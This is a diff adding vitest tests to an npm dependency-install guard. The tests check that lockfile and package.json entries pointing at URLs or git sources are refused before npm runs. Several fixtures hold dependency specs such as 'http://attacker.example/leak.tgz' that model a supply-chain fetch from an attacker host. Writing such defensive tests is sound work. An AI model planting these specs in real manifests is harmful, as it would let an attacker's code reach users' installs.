@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { installDeps } from '../../src/evolve/deps.ts';
 import type { Git } from '../../src/evolve/git.ts';
-import { refuseLockfile, trustedOrigins } from '../../src/evolve/lockfile.ts';
+import { refuseLockfile, refusePackageJson, trustedOrigins } from '../../src/evolve/lockfile.ts';
 import type { Sandbox } from '../../src/evolve/sandbox.ts';
 import { tempDir } from './helpers.ts';
 
@@ -90,4 +90,38 @@ describe('every lockfile npm could use is checked', () => {
     expect(ran).toBe(0);
     expect(out.refused).toMatch(/npm-shrinkwrap\.json.*attacker\.example|attacker\.example.*npm-shrinkwrap/);
   });
+});
+
+// When package.json and the lockfile disagree, npm ci first builds the tree it wants, and resolving a dependency
+// spec fetches from where the spec points: proved with a local server for a package.json dependency and for a
+// lockfile entry's own `dependencies` — before npm reports the lockfile out of sync.
+describe('dependency specs npm resolves before it checks the lockfile', () => {
+  const trusted = trustedOrigins(null);
+
+  it("refuses a lockfile entry's dependency spec that is a URL or a git shorthand", () => {
+    expect(refuseLockfile(v3({ 'node_modules/foo': { ...npmjs('foo'), dependencies: { bar: 'http://attacker.example/leak.tgz' } } }), trusted))
+      .toMatch(/node_modules\/foo.*attacker\.example/);
+    expect(refuseLockfile(v3({ 'node_modules/foo': { ...npmjs('foo'), optionalDependencies: { bar: 'someone/thing' } } }), trusted)).toMatch(/someone\/thing/);
+    const v1 = JSON.stringify({ lockfileVersion: 1, dependencies: { foo: { ...npmjs('foo'), requires: { bar: 'git+ssh://x@y/z.git' } } } });
+    expect(refuseLockfile(v1, trusted)).toMatch(/foo/);
+  });
+
+  it("refuses the candidate's package.json naming a URL, git or file dependency (or override)", () => {
+    const pkg = (fields: Record<string, unknown>) => JSON.stringify({ name: 't', ...fields });
+    expect(refusePackageJson(pkg({ dependencies: { foo: 'http://attacker.example/leak.tgz' } }), trusted)).toMatch(/foo.*attacker\.example/);
+    expect(refusePackageJson(pkg({ devDependencies: { foo: 'github:someone/thing' } }), trusted)).toMatch(/github:someone/);
+    expect(refusePackageJson(pkg({ overrides: { foo: { bar: 'someone/thing' } } }), trusted)).toMatch(/someone\/thing/);
+    expect(refusePackageJson(pkg({
+      dependencies: { a: '^1.2.3', b: 'latest', c: 'npm:@scope/c@~2.0.0', d: '>=1 <2 || 3.x', e: '*', f: '' },
+      peerDependencies: { g: '^16 || ^17' }, overrides: { a: '1.2.4', '@scope/x': { y: '$a' } },
+    }), trusted)).toBeNull();
+  });
+});
+
+it("installDeps refuses a package.json dependency on another host before npm runs", async () => {
+  const files: Record<string, string> = { 'package.json': '{"name":"t","dependencies":{"zod":"http://attacker.example/leak.tgz"}}', 'package-lock.json': v3({ 'node_modules/zod': npmjs('zod') }) };
+  const git = { readFile: async (_sha: string, file: string) => files[file] ?? null } as unknown as Git;
+  const sandbox = { kind: 'none', limits: 'none', run: async () => { throw new Error('npm must not run'); } } as unknown as Sandbox;
+  const out = await installDeps(git, sandbox, 'child', 'parent', `${tempDir('evolve-deps-')}/deps`, 10_000);
+  expect(out.refused).toMatch(/package\.json.*attacker\.example/);
 });
